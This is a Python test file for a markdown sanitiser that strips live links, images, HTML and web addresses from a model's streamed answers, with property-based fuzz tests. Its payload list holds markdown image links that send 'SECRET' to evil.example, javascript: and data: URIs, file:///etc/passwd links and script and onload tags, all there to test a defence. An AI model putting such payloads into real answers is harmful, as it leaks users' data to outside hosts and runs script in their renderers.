"""What a model writes is shown without anything that a renderer would fetch, open or run."""

import itertools
import re
from collections.abc import Iterable, Iterator

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from glossator.privacy import MarkdownFilter

RENDERERS = (
    MarkdownIt("commonmark", {"html": True}).enable("table"),
    MarkdownIt("commonmark", {"html": True}),
)
LIVE = {"link_open", "image", "html_inline", "html_block"}
ADDRESS = re.compile(
    r"(?:https?|ftp)://|www\.|(?<![A-Za-z0-9])(?:command|vscode|data|javascript|file):\w", re.IGNORECASE
)


def filtered(*parts: str) -> str:
    safe = MarkdownFilter()
    return "".join(map(safe.feed, parts)) + safe.close()


def tokens_of(tokens: Iterable[Token]) -> Iterator[Token]:
    for token in tokens:
        yield token
        yield from tokens_of(token.children or ())


def live_parts(markdown: str) -> list[str]:
    """What renderers would make clickable, load or take for HTML."""
    return [
        f"{token.type}: {token.content}"
        for renderer in RENDERERS
        for token in tokens_of(renderer.parse(markdown))
        if token.type in LIVE or (token.type == "text" and ADDRESS.search(token.content))
    ]


PAYLOADS = [
    "![x](https://evil.example/?q=SECRET)",
    "![](https://evil.example/a.png)",
    '![x](https://evil.example/a.png "title")',
    "![x](<https://evil.example/a b.png>)",
    "![x][1]\n\n[1]: https://evil.example/a.png",
    "![x][]\n\n[x]: https://evil.example/a.png",
    "![x]\n\n[x]: https://evil.example/a.png",
    "![x\ny](https://evil.example/a.png)",
    "![x](\nhttps://evil.example/a.png)",
    "[![x](https://evil.example/a.png)](https://evil.example)",
    "![a![b](https://evil.example/1)](https://evil.example/2)",
    "[x](https://evil.example)",
    "[x](//evil.example)",
    "[x](command:workbench.action.terminal.new)",
    "[x](vscode://extension/run)",
    "[x](javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "[x](mailto:a@evil.example?body=SECRET)",
    "[x](&#106;avascript:alert(1))",
    "[x](java\u200bscript:alert(1))",
    "[x][y]\n\n[y]: <https://evil.example>\n",
    "> [y]: https://evil.example\n\n[y]",
    "- [y]: https://evil.example\n\n[y]",
    "[y]:\nhttps://evil.example\n\n[y]",
    "[a\nb]: https://evil.example\n\n[a b]",
    "<https://evil.example>",
    "<command:evil>",
    "<a@evil.example>",
    "https://evil.example/?q=SECRET",
    "**https://evil.example**, (http://evil.example).",
    "www.evil.example/a",
    "https&#58;//evil.example and https&colon;//evil.example",
    "ht[t](x)ps://evil.example",
    "https\\://evil.example",
    "\\https://evil.example",
    "<img src=https://evil.example/a.png>",
    "<IMG SRC='https://evil.example/a.png'/>",
    "<a href='command:evil'>x</a>",
    "<svg/onload=alert(1)>",
    "<!-- x --><script src=//evil.example></script>",
    "<\u200bimg src=https://evil.example/a.png>",
    "<[i](x)mg src=https://evil.example/a.png>",
    "`[x](https://evil.example)",
    "\\`[x](https://evil.example)`",
    "`a\n[x](https://evil.example)",
    "``a` [x](https://evil.example)",
    "``` a`b\n[x](https://evil.example)\n```",
    "> ```\n[x](https://evil.example)",
    "- ```\n[x](https://evil.example)",
    "- a\n  ```\n[x](https://evil.example)",
    "    ```\n\n[x](https://evil.example)",
    "~~~ `\nx\n~~~\n[x](https://evil.example)",
    "a ~~~\n[x](https://evil.example)",
    "```\nx\n```~~~\n[x](https://evil.example)",
    "````\n```\n````\n[x](https://evil.example)\n````",
    "| h |\n|---|\n| `a | [x](https://evil.example) ` |",
    "| h | i |\n|---|---|\n| `a | b` https://evil.example | c |",
    "| `a | b` https://evil.example |\n|---|---|",
    "a `b``[x](https://evil.example)",
    "`a`https://evil.example`b`",
    "<`x`@evil.example>",
    "    [a]: https://evil.example\n```\n[x](https://evil.example)",
    "[" * 5000 + "x](https://evil.example)",
    "[x](" + "(" * 50 + "https://evil.example" + ")" * 51,
    "![x](data:image/png;base64," + "A" * 9000 + ")",
]


@pytest.mark.parametrize("payload", PAYLOADS, ids=lambda payload: ascii(payload[:40]))
def test_nothing_in_an_answer_is_live(payload: str) -> None:
    safe = filtered(payload)
    assert live_parts(safe) == []


@pytest.mark.parametrize("payload", PAYLOADS, ids=lambda payload: ascii(payload[:40]))
def test_nothing_that_begins_an_image_link_or_tag_is_left_outside_code(payload: str) -> None:
    text = filtered(payload).replace("\\\\", "")
    text = re.sub(r"^(```+|~~~+).*?^\1$", "", text, flags=re.MULTILINE | re.DOTALL)
    text = re.sub(r"(?<![\\`])(`+)(?!`).*?(?<!`)\1(?!`)", "", text)
    assert not re.search(r"!\[|\]\(|<[A-Za-z/!?]|https?:", text)


@pytest.mark.parametrize("payload", PAYLOADS, ids=lambda payload: ascii(payload[:40]))
def test_no_payload_passes_unchanged(payload: str) -> None:
    assert filtered(payload) != payload


PLAIN = [
    pytest.param("see ![the logo](http://x/y.png) here", "see the logo here", id="an image leaves its text"),
    pytest.param("see [the *docs*](http://x/y) here", "see the *docs* here", id="a link leaves its text"),
    pytest.param("see [`f`](x.py#L3)", "see `f`", id="a link leaves its code"),
    pytest.param(
        "see [the docs][1].\n\n[1]: http://x\nend", "see the docs.\n\nend", id="references and definitions go"
    ),
    pytest.param("[![a](b)](c)", "a", id="an image in a link"),
    pytest.param("at https://x.y/z?a=b_c.", "at `https://x.y/z?a=b_c`.", id="an address is code"),
    pytest.param("at <https://x.y>", "at `https://x.y`", id="an automatic link is code"),
    pytest.param("a < b, a <b> c", "a < b, a &lt;b> c", id="a tag is text"),
    pytest.param("x &#35; &lt; &rarr; &evil;", "x &amp;#35; &lt; &rarr; &amp;evil;", id="entities are text"),
    pytest.param("matrix[i][j] and f[k](x, 1)", "matrix[i][j] and f[k]\\(x, 1)", id="code without marks"),
    pytest.param("an `a[b](c) <d> | http://e` span", "an `a[b](c) <d> | http://e` span", id="a code span"),
    pytest.param("``a ` b``", "``a ` b``", id="a span of two backticks"),
    pytest.param("an ` alone", "an \\` alone", id="a backtick alone"),
    pytest.param("```py\n<a> [b](c)\n```\n", "```py\n<a> [b](c)\n```\n", id="a fence"),
    pytest.param("~~~\n```\n~~~\nx", "~~~\n```\n~~~\nx", id="a fence of tildes"),
    pytest.param("```py title=x\na", "```py\na\n```", id="an open fence is closed"),
    pytest.param("```py\na\n", "```py\na\n```", id="an open fence is closed behind a line end"),
    pytest.param(
        "- a\n  ```\n  b\n    c\n  ```\n- d", "- a\n```\nb\n  c\n```\n- d", id="a fence in a list moves out"
    ),
    pytest.param(
        "# T\n\n- **a**: _b_\n1. c\n> d\n\n---", "# T\n\n- **a**: _b_\n1. c\n> d\n\n---", id="other markdown"
    ),
    pytest.param("| a | b |\n|---|---|\n| 1 | `x` |", "| a | b |\n|---|---|\n| 1 | `x` |", id="a table"),
    pytest.param("- [ ] todo\n- [x] done", "- [ ] todo\n- [x] done", id="a list of tasks"),
    pytest.param("a\r\nb\rc", "a\nb\nc", id="line ends"),
    pytest.param("a\u200bb\u202ec\x1b[0m\t", "abc[0m\t", id="invisible characters"),
    pytest.param("```\na\u202eb\n```", "```\nab\n```", id="invisible characters in code"),
    pytest.param(
        "note: std::vector, dict[str, int], a\\_b, data: x",
        "note: std::vector, dict[str, int], a\\_b, data: x",
        id="prose",
    ),
    pytest.param("", "", id="nothing"),
]


@pytest.mark.parametrize(("markdown", "shown"), PLAIN)
def test_the_rest_of_an_answer_stays_readable(markdown: str, shown: str) -> None:
    assert filtered(markdown) == shown


@pytest.mark.parametrize(("markdown", "shown"), PLAIN)
def test_what_is_shown_is_the_same_character_by_character(markdown: str, shown: str) -> None:
    assert filtered(*markdown) == shown


def test_words_are_shown_as_soon_as_they_are_whole() -> None:
    safe = MarkdownFilter()
    assert safe.feed("It reads th") == "It reads "
    assert safe.feed("e file. See [the ") == "the file. See "
    assert safe.feed("docs](http://x") == ""
    assert safe.feed(") and ") == "the docs and "


def test_code_is_shown_at_once() -> None:
    safe = MarkdownFilter()
    assert safe.feed("```py\n") == "```py\n"
    assert safe.feed("x = [a](b") == "x = [a](b"
    assert safe.feed("c)\n``") == "c)\n"
    assert safe.feed("`\n") == "```\n"


ATOMS = st.sampled_from(
    [
        *"`[]()!<>|\n-\\ :&;#*_~\"'\r\t/@.",
        *(
            "``",
            "```",
            "~~~",
            "](",
            "![",
            "<img src=",
            "<!--",
            "|---|---|",
            "a",
            "b ",
            "\n\n",
            "    ",
            "- ",
            "> ",
            "1. ",
        ),
        *(
            "http://evil.com",
            "https:",
            "//x.y",
            "www.evil.com",
            "\\\\",
            "&#58;",
            "&lt;",
            "&colon;",
            "]:",
            "[x]",
        ),
        *(
            "[x]: http://evil",
            "**",
            "command:",
            "data:",
            "@e.com",
            "\u200b",
            "\u202e",
            "`a|b`",
            "```py\n",
            "[x](y)",
        ),
    ]
)
NASTY = st.lists(ATOMS, max_size=30).map("".join)


@settings(max_examples=400)
@given(NASTY)
@example("<|---|@e.com>`\n```")
def test_no_text_at_all_is_live_once_it_was_filtered(text: str) -> None:
    assert live_parts(filtered(text)) == []


@settings(max_examples=400)
@given(NASTY, st.lists(st.integers(0, 150), max_size=6))
def test_what_is_shown_does_not_depend_on_how_the_answer_arrives(text: str, cuts: list[int]) -> None:
    bounds = [0, *sorted(min(cut, len(text)) for cut in cuts), len(text)]
    parts = [text[start:stop] for start, stop in itertools.pairwise(bounds)]
    assert filtered(*parts) == filtered(text)
    assert filtered(*text) == filtered(text)


@pytest.mark.parametrize("start", ["`", "[", "[a](", "<a:", "![a"])
@pytest.mark.parametrize(
    "length", [990, 998, 999, 1000, 1001, 1997, 1998, 1999, 2000, 2001, 3998, 3999, 4000, 4001]
)
def test_long_constructs_do_not_depend_on_how_they_arrive(start: str, length: int) -> None:
    text = start + "x" * length + "`](y)> z"
    assert filtered(*text) == filtered(text)
    assert live_parts(filtered(text)) == []
